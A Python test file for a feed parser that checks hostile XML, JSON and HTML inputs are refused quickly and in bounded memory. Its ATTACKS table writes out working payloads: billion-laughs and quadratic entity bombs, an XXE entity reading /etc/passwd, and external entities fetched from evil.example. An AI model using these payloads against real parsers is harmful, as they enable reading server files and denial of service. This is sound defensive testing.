"""Whatever a stranger sends, the answer is a feed or a refusal: soon, and in bounded memory."""

from __future__ import annotations

import gzip
import time
import tracemalloc
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extractors.feed import parse
from extractors.feeds.cost import CostlyDocument, is_small_document
from extractors.feeds.raw import NotAFeed
from extractors.feeds.section_page import parse_section_page
from extractors.feeds.sitemap import parse_sitemap
from tests.extractors.feeds.building import URL, rss

pytestmark = pytest.mark.slow


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS = {
    "billion laughs": f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]><rss><channel><title>&l9;</title></channel></rss>',
    "quadratic": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]><rss><title>{"&a;" * 50_000}</title></rss>',
    "small entity, many times": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 200}">]><rss><title>{"&a;" * 90_000}</title></rss>',
    "file": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
    "parameter file": '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss></rss>',
    "public file": '<!DOCTYPE rss [<!ENTITY x PUBLIC "p" "http://evil.example/">]><rss><title>&x;</title></rss>',
    "cycle": '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]><rss><channel><title>&a;</title></channel></rss>',
    "odd declaration": "<!DOCTYPE rss [<!ENTITY>]><rss></rss>",
    "endless": "<!DOCTYPE rss [" + "<!ENTITY a 'b'>" * 20_000,
}


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entity_attacks_are_refused_at_once_and_without_memory(name: str, encoding: str) -> None:
    data = ATTACKS[name].encode(encoding)
    tracemalloc.start()
    start = time.process_time()
    with pytest.raises(NotAFeed, match="refused"):
        parse(data, url=URL)
    spent, (_, peak) = time.process_time() - start, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert spent < 0.25
    assert peak < 10 * len(data) + 2_000_000


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">',
        '<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "x.ent"> %HTMLlat1;]>',
        '<!DOCTYPE rss [<!ENTITY outlet "Harbour Post"><!ELEMENT rss ANY>]>',
    ],
)
def test_harmless_document_types_keep_working(doctype: str) -> None:
    title = "&outlet; caf&eacute;" if "outlet" in doctype else "Harbour Post caf&eacute;"
    text = rss(f"<title>{title}</title>", before=f'<?xml version="1.0"?><!-- hello -->{doctype}')
    assert parse(text.encode(), url=URL).entries[0].title == "Harbour Post café"


@pytest.mark.parametrize(
    "text",
    [
        "<rss>" + "<a>" * 50_000,
        "<rss>" + "<![CDATA[" * 60_000,
        "<rss>" + "<!--" * 100_000,
        "<" * 300_000,
        "&" * 300_000,
        "<!DOCTYPE" * 40_000,
        "<?xml " * 60_000,
        "<rss " + "a:b " * 60_000,
        "<rss>" + "".join(f"<p{n}:a/>" for n in range(20_000)) + "</rss>",
        "<rss><channel><item><author>" + "a@" * 100_000 + "</author></item></channel></rss>",
        "{" + '"a":[' * 100_000,
        "<html>" + "<link " * 50_000,
        "<html>" + "<a href='" * 50_000,
        "<!--" * 100_000 + "<html",
        "<rss><channel><item><title>" + "&#" + "9" * 100_000 + ";</title></item></channel></rss>",
    ],
)
def test_hostile_repetition_costs_linear_time(text: str) -> None:
    start = time.process_time()
    with suppress(NotAFeed):
        parse(text.encode(), url=URL)
    assert time.process_time() - start < 5


ATOM = "<feed xmlns='http://www.w3.org/2005/Atom'"
NAMESPACES = "".join(f" xmlns:n{number}='u{number}'" for number in range(2_000))
SMALL_BUT_HOSTILE = {
    "authors": "<rss><channel><item>"
    + ("<author>" + "a@" * 60 + "(" * 370 + "</author>") * 480
    + "</item></channel></rss>",
    "namespaces": f"{ATOM}{NAMESPACES}><entry><content type='xhtml'>"
    + "<b/>a" * 5_000
    + "</content></entry></feed>",
    "bases": f"{ATOM} xml:base='http://o.example/{'a/../' * 20_000}'>"
    + "<entry xml:base='b'><link href='c'/></entry>" * 3_000
    + "</feed>",
    "bases within bases": f"{ATOM}>"
    + f"<a xml:base='{'a/' * 145}'>" * 120
    + "<entry xml:base='b'><link href='c'/></entry>" * 3_000
    + "</a>" * 120
    + "</feed>",
    "items deep down": "<rss>" + "<a>" * 250 + "<item/>" * 30_000 + "</a>" * 250 + "</rss>",
    "attributes": "<rss "
    + " ".join(f"a{number}=''" for number in range(22_000))
    + "><channel/></rss>",
    "prefixes": "<rss><channel><item>"
    + "".join(f"<p{number}:a/>" for number in range(20_000))
    + "</item></channel></rss>",
    "dates": "<rss><channel><item>"
    + "<pubDate>a1 b2 c3 d4 e5 f6 10:11:12 +0 -0</pubDate>" * 4_500
    + "</item></channel></rss>",
    "titles": "<rss><channel>"
    + "<item><title>&lt;b&gt;x</title></item>" * 6_500
    + "</channel></rss>",
    "accents": "<rss><channel><item><title>" + "Ã©" * 60_000 + "</title></item></channel></rss>",
    "items": '{"version":"https://jsonfeed.org/version/1.1","items":[' + "{}," * 80_000 + "{}]}",
    "ampersands": "<rss><channel><title>" + "&" * 250_000 + "</title></channel></rss>",
    "page": "<html>" + "<a href='/feed/x' rel=alternate>" * 8_000,
}


@pytest.mark.parametrize("text", SMALL_BUT_HOSTILE.values(), ids=SMALL_BUT_HOSTILE)
def test_a_small_document_is_read_at_small_cost_whatever_it_holds(text: str) -> None:
    data = text.encode()
    assert is_small_document(data)
    start = time.process_time()
    with suppress(NotAFeed, CostlyDocument):
        parse(data, url=URL, only_cheap=True)
    assert time.process_time() - start < 1.5


@pytest.mark.parametrize(
    "data",
    [
        b"<rss><channel>" + b"<item/>" * 40_000,
        gzip.compress(b"<rss><channel/></rss>"),
        b"<rss><channel><br></channel></rss>",
        f"<rss xmlns:a='{'u' * 400}'><channel/></rss>".encode(),
    ],
    ids=["large", "packed", "broken", "long namespace"],
)
def test_what_may_cost_more_is_left_to_a_process_of_its_own(data: bytes) -> None:
    with pytest.raises(CostlyDocument):
        parse(data, url=URL, only_cheap=True)


PIECES = """<rss> <channel> <item> </item> <feed> <entry> <title> </title> <link_href=' '> <!DOCTYPE <![CDATA[ ]]> &amp;
&#0; &x; <?xml_encoding=' ?> { "items":[ } ] <pubDate> 99:99:99 31_Feb_2020 xml:base='//[' xmlns:a='' <a:b_ /> é"""
FRAGMENTS = st.sampled_from(
    [*PIECES.replace("_", " ").split("\n"), *PIECES.split(), " ", "\x00", "\ud7ff", "\x85"]
)


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=300),
        st.lists(FRAGMENTS, max_size=40).map(
            lambda parts: "".join(parts).replace("_", " ").encode()
        ),
    )
)
def test_any_bytes_give_a_feed_or_a_refusal(data: bytes) -> None:
    with suppress(NotAFeed):
        document = parse(data, url=URL, content_type="text/xml; charset=gb2312")
        assert len({entry.identity for entry in document.entries}) == len(document.entries)
    with suppress(NotAFeed):
        parse_sitemap(data, url=URL)
    with suppress(NotAFeed):
        parse_section_page(data, url=URL, link_pattern=".")


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_in_a_title_leave_the_entry_standing(noise: bytes) -> None:
    inside = noise.replace(b"<", b"").replace(b"]]>", b"").replace(b"\x1b", b"").replace(b"\0", b"")
    data = (
        b"<rss><channel><item><title>"
        + inside
        + b"</title><link>https://o.example/1</link></item></channel></rss>"
    )
    (entry,) = parse(data, url=URL).entries
    assert entry.link == "https://o.example/1"
    entry.title.encode("utf-8")
